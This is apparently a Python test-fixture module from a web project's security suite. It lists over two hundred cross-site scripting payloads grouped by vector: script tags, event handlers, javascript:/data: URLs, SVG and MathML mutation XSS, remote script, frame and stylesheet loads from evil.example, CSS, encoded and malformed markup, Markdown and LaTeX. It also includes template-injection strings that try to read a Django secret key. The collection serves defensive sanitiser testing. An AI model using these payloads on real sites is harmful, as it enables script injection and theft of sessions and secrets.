"""XSS payloads pushed through every input path (tests/security/test_xss_*.py).

Each payload that ran would set ``window.__xss`` or open a dialog (``alert``), or make a request to
``evil.example``: the browser test watches for all three, the static checks for the markup that would do it.
They come from the usual catalogues (OWASP's filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
the DOMPurify and nh3/ammonia bypass reports) and cover script tags, event handlers, javascript:/data:/
vbscript: URLs with encodings and whitespace tricks, SVG and MathML (mutation XSS), frames and objects,
<base>, <meta refresh>, CSS, entity-encoded and double-encoded forms, malformed and unclosed markup, NUL
bytes, unicode escapes, template-injection strings, Markdown links and images, and LaTeX commands.
"""

from dataclasses import dataclass

_RUN = "window.__xss=1;alert(1)"


@dataclass(frozen=True)
class Payload:
    key: str
    text: str
    kind: str

    @property
    def xml_ok(self):
        """Whether XML 1.0 can carry it (arXiv feeds and OAI-PMH cannot hold most control characters)."""
        return all(ch in "\t\n\r" or 0x20 <= ord(ch) <= 0xD7FF or 0xE000 <= ord(ch) <= 0xFFFD for ch in self.text)

    @property
    def has_nul(self):
        return "\x00" in self.text

    def one_line(self):
        """The payload on one line, for line-based formats (a Markdown post's title, authors, abstract, posts)."""
        return " ".join(self.text.replace("\x00", "").splitlines()) if "\n" in self.text else self.text


_SCRIPT = {
    "script": f"<script>{_RUN}</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-src-remote": "<script src=//evil.example/x.js></script>",
    "script-module": '<script type="module">window.__xss=1</script>',
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash-attr": "<script/x>window.__xss=1</script>",
    "script-unclosed": "<script>window.__xss=1",
    "script-after-quote": f'"><script>{_RUN}</script>',
    "script-after-single-quote": f"'><script>{_RUN}</script>",
    "script-textarea-breakout": f"</textarea><script>{_RUN}</script>",
    "script-title-breakout": f"</title><script>{_RUN}</script>",
    "script-json-ld-breakout": f"</script><script>{_RUN}</script>",
    "script-style-breakout": f"</style><script>{_RUN}</script>",
    "script-in-comment": f"<!--<script>{_RUN}</script>-->",
    "script-in-cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "script-double-open": "<<script>alert(1)//<</script>",
    "script-svg-cdata": "<svg><script>//<![CDATA[\nwindow.__xss=1\n//]]></script></svg>",
}

_HANDLERS = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": f'<img src="x" onerror="{_RUN}">',
    "img-mixed-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-slashes": "<img/src=x/onerror=window.__xss=1>",
    "img-no-space": '<img src="x"onerror="window.__xss=1">',
    "img-backticks": "<img src=`x`onerror=alert(1)>",
    "img-entity-handler": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "img-hex-entity-handler": '<img src="x" onerror="&#x61;lert(1)">',
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "img-template-literal": "<img src=x onerror=alert`1`>",
    "img-quote-confusion": f'<img """><script>{_RUN}</script>">',
    "body-onload": "<body onload=alert(1)>",
    "body-onpageshow": "<body onpageshow=window.__xss=1>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "a-onclick": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "input-autofocus": "<input autofocus onfocus=window.__xss=1>",
    "select-autofocus": "<select autofocus onfocus=window.__xss=1></select>",
    "textarea-autofocus": "<textarea autofocus onfocus=window.__xss=1></textarea>",
    "details-ontoggle": "<details open ontoggle=window.__xss=1>",
    "video-source-onerror": "<video><source onerror=window.__xss=1></video>",
    "audio-onerror": "<audio src=x onerror=window.__xss=1>",
    "marquee-onstart": "<marquee onstart=window.__xss=1>x</marquee>",
    "animation-start": '<p style="animation-name:spin" onanimationstart=window.__xss=1>x</p>',
    "pointer-enter": "<div onpointerenter=alert(1)>x</div>",
    "custom-element-onclick": "<x-tag onclick=alert(1)>custom</x-tag>",
    "handler-unicode-escape": "<img src=x onerror=\\u0061lert(1)>",
    "title-breaks-quotes": """<a href="https://ok.example/" title='x" onmouseover="alert(1)'>x</a>""",
    "attr-entity-quote": '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
}

_URLS = {
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-leading-space": '<a href=" javascript:window.__xss=1">x</a>',
    "href-tab-inside": '<a href="java\tscript:window.__xss=1">x</a>',
    "href-entity-tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-entity-newline": '<a href="java&#x0A;script:alert(1)">x</a>',
    "href-decimal-entities": ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    "href-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "href-named-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "href-padded-decimal": '<a href="&#0000106;avascript:alert(1)">x</a>',
    "href-no-semicolons": (
        "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>x</a>"
    ),
    "href-control-prefix": '<a href="\x01javascript:alert(1)">x</a>',
    "href-double-encoded": '<a href="&amp;#106;avascript:alert(1)">x</a>',
    "href-percent-encoded": '<a href="javascript%3Aalert(1)">x</a>',
    "href-comment-newline": '<a href="javascript://%0aalert(1)">x</a>',
    "href-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "href-data-upper": '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-protocol-relative": '<a href="//evil.example/">x</a>',
    "img-src-javascript": '<img src="javascript:alert(1)">',
    "img-src-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button-formaction": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "isindex-action": "<isindex action=javascript:alert(1) type=image>",
    "math-href": '<math href="javascript:alert(1)">CLICK</math>',
    "polyglot": (
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"
    ),
}

_MARKDOWN = {
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-entity-colon": "[x](javascript&#58;alert(1))",
    "md-link-entity-letter": "[x](&#106;avascript:alert(1))",
    "md-link-spaces": "[x]( javascript:alert(1) )",
    "md-link-angle": "[x](<javascript:alert(1)>)",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-comment": "[x](javascript:alert(1)//https://ok.example/)",
    "md-link-obfuscated": "[x](javascript:window['al'+'ert'](1))",
    "md-reference-link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-alt-breakout": '![a" onerror="alert(1)](x)',
    "md-title-breakout": '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")',
    "md-html-in-link-text": "[<img src=x onerror=alert(1)>](https://ok.example/)",
    "md-code-is-text": "`<script>alert(1)</script>`",
}

_SVG_MATHML = {
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=window.__xss=1>",
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "svg-animate-onbegin": "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    "svg-use-data": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='x' onerror='alert(1)'/></svg>#x\"/></svg>"
    ),
    "svg-foreign-object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg-style-img": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg-desc-img": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "mxss-svg-p-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math-maction": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>'
    ),
    "mxss-math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-nested-forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "math-mi-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math-mtext-link": '<math><mtext><h1><a href="javascript:alert(1)">x</a></h1></mtext></math>',
    "math-annotation-xml": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'
    ),
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}

_EMBEDS = {
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "iframe-srcdoc-escaped": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "iframe-src-remote": '<iframe src="https://evil.example/"></iframe>',
    "iframe-src-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "object-remote": '<object data="https://evil.example/x.swf"></object>',
    "object-data-html": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed-remote": '<embed src="https://evil.example/x.swf">',
    "embed-javascript": '<embed src="javascript:alert(1)">',
    "base-remote": '<base href="https://evil.example/">',
    "base-javascript": '<base href="javascript:alert(1)//">',
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-remote": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link-import": "<link rel=import href=https://evil.example/x.html>",
    "frameset-onload": "<frameset onload=alert(1)>",
    "applet": '<applet code="x.class" codebase="https://evil.example/"></applet>',
    "portal": '<portal src="https://evil.example/"></portal>',
    "template-img": "<template><img src=x onerror=alert(1)></template>",
    "xmp-img": "<xmp><img src=x onerror=alert(1)></xmp>",
    "noembed-img": "<noembed><img src=x onerror=alert(1)></noembed>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
}

_CSS = {
    "style-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-comment-expression": '<p style="x:expr/**/ession(alert(1))">x</p>',
    "style-remote-image": '<div style="background-image:url(https://evil.example/x.png)">x</div>',
    "style-behavior": '<div style="behavior:url(https://evil.example/x.htc)">x</div>',
    "style-element-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-element-url": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-in-table-cell": (
        '<table><tr><td style="text-align:left;background:url(https://evil.example/x)">x</td></tr></table>'
    ),
    "link-data-css": "<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>",
}

_ENCODED = {
    "entities-named": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-double": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "entities-decimal": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entities-hex-img": "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "percent-encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
    "js-unicode-escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "js-hex-escapes": "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "fullwidth-brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "rtl-override": f"\u202e<script>{_RUN}</script>",
    "zero-width-joiner": "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "nul-in-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "nul-in-handler": "<img src=x on\x00error=alert(1)>",
    "nul-in-scheme": '<a href="java\x00script:alert(1)">x</a>',
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

_MALFORMED = {
    "img-unclosed": "<img src=x onerror=alert(1)",
    "attr-unclosed": '<a href="javascript:alert(1)" <x',
    "tag-in-tag": "<div <img src=x onerror=alert(1)>>",
    "nested-unclosed": "<p>unclosed <b>bold <i>italic <img src=x onerror=alert(1)",
    "closing-breakout": f"</p></div></blockquote></article></main><script>{_RUN}</script>",
    "stray-quote-attr": "<a href='x' title='a' onmouseover=alert(1) '>x</a>",
    "bogus-comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "processing-instruction": "<? echo 1 ?><img src=x onerror=alert(1)>",
    "listing-img": "<listing><img src=x onerror=alert(1)></listing>",
}

_TEMPLATES = {
    "django-variable": "{{ 7*7 }} {{ settings.SECRET_KEY }}",
    "django-tag": "{% debug %}{% load log %}{% get_admin_log 10 as log %}",
    "django-comment-close": "{# #}{% endblock %}{% endif %}",
    "angular-sandbox": "{{constructor.constructor('window.__xss=1')()}}",
    "js-template": "${alert(1)} #{7*7} <%= 7*7 %>",
    "jinja-class-walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
}

_LATEX = {
    "tex-href": "$\\href{javascript:alert(1)}{click}$",
    "tex-url": "$\\url{javascript:alert(1)}$",
    "tex-unicode": "$\\unicode{<img src=x onerror=alert(1)>}$",
    "tex-style": "$\\style{background:url(javascript:alert(1))}{x}$",
    "tex-class": '$\\class{x" onclick="alert(1)}{x}$',
    "tex-text-script": f"$\\text{{<script>{_RUN}</script>}}$",
    "tex-mathrm-img": "$\\mathrm{<img src=x onerror=alert(1)>}$",
    "tex-operatorname-svg": "$\\operatorname{<svg onload=alert(1)>}$",
    "tex-close-math": "$x</math><img src=x onerror=alert(1)>$",
    "tex-array-script": "$\\begin{array}{c}<script>alert(1)</script>\\end{array}$",
    "tex-paren-href": "\\(\\href{javascript:alert(1)}{click}\\)",
    "tex-display-htmldata": "$$\\htmlData{x=1}{<img src=x onerror=alert(1)>}$$",
    "tex-mbox-iframe": "$\\mbox{<iframe srcdoc=x>}$",
    "tex-color-breakout": '$\\color{red}{"><script>alert(1)</script>}$',
    "tex-less-than-handler": "$a<b onmouseover=alert(1)>c$",
    "tex-annotation-breakout": "$x</annotation><img src=x onerror=alert(1)>$",
}

_GROUPS = {
    "script": _SCRIPT,
    "handler": _HANDLERS,
    "url": _URLS,
    "markdown": _MARKDOWN,
    "svg-mathml": _SVG_MATHML,
    "embed": _EMBEDS,
    "css": _CSS,
    "encoded": _ENCODED,
    "malformed": _MALFORMED,
    "template": _TEMPLATES,
    "latex": _LATEX,
}

PAYLOADS = [Payload(key, text, kind) for kind, group in _GROUPS.items() for key, text in group.items()]
LATEX_PAYLOADS = [payload for payload in PAYLOADS if payload.kind == "latex"]

assert len({payload.key for payload in PAYLOADS}) == len(PAYLOADS), "payload keys must be unique"
